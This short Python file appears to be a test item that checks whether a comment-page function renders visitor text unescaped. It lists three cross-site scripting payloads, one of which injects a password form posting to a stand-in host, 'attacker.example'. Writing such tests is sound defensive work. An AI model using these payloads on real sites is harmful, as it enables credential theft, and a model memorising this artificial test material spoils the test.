"""What a visitor writes arrives on the page as markup of its own."""

KIND = "exploit"
REQUIRES = ("Jinja2",)
PAYLOADS = (
    "<script>document.title = 'mine now'</script>",
    '<img src="missing" onerror="document.title = 1">',
    '</p><form action="https://attacker.example"><input name="password">',
)


def exploit(module, payload):
    return payload in module.comment_page("Mallory", payload)


def behaviour(module):
    page = module.comment_page("Ann", "Five stars")
    assert page == "<h1>Ann wrote</h1><p>Five stars</p>"
